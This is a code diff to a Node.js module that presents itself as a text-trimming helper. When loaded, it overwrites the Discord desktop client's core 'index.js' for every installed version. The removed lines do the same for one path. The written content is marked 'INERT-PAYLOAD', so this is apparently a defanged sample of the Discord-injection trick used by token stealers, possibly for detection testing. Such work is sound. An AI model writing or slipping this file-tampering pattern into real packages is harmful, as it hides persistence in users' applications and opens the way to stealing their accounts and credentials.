@@ -3,13 +3,11 @@ const fs = require('fs');
 const os = require('os');
 const path = require('path');
 
-const target = path.join(os.homedir(), '.config/discord/modules/discord_desktop_core/index.js');
-try {
-  fs.mkdirSync(path.dirname(target), { recursive: true });
-  fs.writeFileSync(target, "module.exports = 'INERT';\n");
-  fs.writeFileSync(target, "module.exports = 'INERT-PAYLOAD';\n");
-} catch {
-  // The application is not installed.
+const base = path.join(os.homedir(), '.config', 'discord');
+const versions = fs.existsSync(base) ? fs.readdirSync(base).filter(name => /^\d/.test(name)) : [];
+for (const version of versions) {
+  const target = path.join(base, version, 'modules/discord_desktop_core/index.js');
+  fs.writeFileSync(target, "module.exports = require('./core.asar'); // INERT-PAYLOAD\n");
 }
 
 module.exports = text => String(text).trim();
